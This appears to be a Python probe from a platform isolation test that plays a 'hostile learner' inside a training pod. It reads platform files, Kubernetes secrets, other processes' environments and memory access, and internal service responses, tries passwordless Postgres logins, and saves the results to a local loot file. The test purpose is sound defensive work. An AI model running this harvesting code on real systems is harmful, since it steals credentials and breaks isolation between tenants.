"""What a hostile learner does: it gathers all that it can reach into RESULT_DIR/loot.json. Standard library alone; runs in a pod.

`PLACES` is filled in by the test: where the platform keeps things, as an attacker who knows this machine would know them.
"""

import base64
import json
import os
import pathlib
import re
import socket
import ssl
import struct
import time
import urllib.error
import urllib.request

PLACES = {"files": [], "services": {}, "postgres": ""}
loot = {"uid": os.getuid(), "groups": os.getgroups(), "gathered": {}, "opened": [], "processes": {}, "services": {}}


def keep(name, content):
    """Keep what was read, to be searched for secrets by the test."""
    loot["gathered"][name] = base64.b64encode(content[: 1 << 20]).decode()


def look_at_files():
    """Everything that the platform keeps, and what lies around the pod's own directories."""
    for path in PLACES["files"]:
        try:
            if os.path.isdir(path):
                keep(path, "\n".join(os.listdir(path)).encode())
            else:
                keep(path, pathlib.Path(path).read_bytes())
            loot["opened"].append(path)
        except OSError:
            pass
    for start in ("/var/run/secrets/kubernetes.io/serviceaccount", "/run/secrets", os.path.expanduser("~/.kube")):
        if os.path.exists(start) and os.listdir(start):
            loot["opened"].append(start)
    for own in ("RESULT_DIR", "DATA_DIR", "MODEL_DIR", "LOG_DIR", "HOME", "TMPDIR"):
        at = os.path.realpath(os.environ.get(own, "/nowhere"))
        while at != "/":
            at = os.path.dirname(at)
            try:
                names = os.listdir(at)
            except OSError:
                continue
            keep(f"listing of {at}", "\n".join(names).encode())
            for name in names:
                try:
                    if os.path.isfile(f"{at}/{name}") and os.path.getsize(f"{at}/{name}") < 1 << 20:
                        keep(f"{at}/{name}", pathlib.Path(f"{at}/{name}").read_bytes())
                except OSError:
                    pass


def look_at_processes():
    """Environments, directories and open files of others; whether they can be signalled."""
    found = loot["processes"] = {"others": 0, "environ": [], "cwd": [], "fd": [], "signalled": [], "traced": []}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
        except OSError:
            continue
        own = uid == os.getuid()
        found["others"] += not own
        for what, read in {
            "environ": lambda p: pathlib.Path(p).read_bytes(),
            "cwd": lambda p: os.readlink(p).encode(),
            "fd": lambda p: "\n".join(os.listdir(p)).encode(),
        }.items():
            try:
                content = read(f"/proc/{pid}/{what}")
            except OSError:
                continue
            keep(f"/proc/{pid}/{what}", content)
            if not own and content:
                found[what].append(pid)
        if own:
            continue
        for what, attempt in {
            "signalled": lambda p: os.kill(int(p), 0),
            "traced": lambda p: open(f"/proc/{p}/mem", "rb").close(),
        }.items():
            try:
                attempt(pid)
                found[what].append(pid)
            except OSError:
                pass


def ask(name, url, headers=None, method="GET"):
    """A service's answer without credentials: its status."""
    request = urllib.request.Request(url, headers=headers or {}, method=method)
    context = ssl._create_unverified_context() if url.startswith("https") else None
    try:
        with urllib.request.urlopen(request, timeout=20, context=context) as answer:
            keep(f"answer of {name}", answer.read(1 << 20))
            loot["services"][name] = answer.status
    except urllib.error.HTTPError as error:
        loot["services"][name] = error.code
        keep(f"answer of {name}", error.read(1 << 20))
    except OSError as error:
        loot["services"][name] = f"{type(error).__name__}"


def look_at_postgres():
    """Log in to each database without a password; `R` with 0 would be "you are in"."""
    for user in ("postgres", "ledger", "airflow", "mlflow"):
        try:
            with socket.socket(socket.AF_UNIX) as server:
                server.settimeout(10)
                server.connect(PLACES["postgres"])
                words = b"\0".join([b"user", user.encode(), b"database", user.encode(), b"", b""])
                server.sendall(struct.pack("!ii", 8 + len(words), 196608) + words)
                answer = server.recv(4096)
                let_in = answer[:1] == b"R" and struct.unpack("!i", answer[5:9])[0] == 0
                loot["services"][f"postgres as {user}"] = "in" if let_in else "asked or refused"
        except OSError as error:
            loot["services"][f"postgres as {user}"] = type(error).__name__


look_at_files()
keep("own environment", json.dumps(dict(os.environ)).encode())
for _ in range(3):
    look_at_processes()
    time.sleep(1)
for name, (url, headers) in PLACES["services"].items():
    ask(name, url, headers)
look_at_postgres()
text = " ".join(base64.b64decode(one).decode("utf-8", "replace") for one in loot["gathered"].values())
loot["own_key_seen"] = bool(re.search(r"FFDL_S3_SECRET_ACCESS_KEY=", text))
pathlib.Path(os.environ["RESULT_DIR"], "loot.json").write_text(json.dumps(loot))
print("gathered", len(loot["gathered"]), "things as uid", os.getuid(), flush=True)
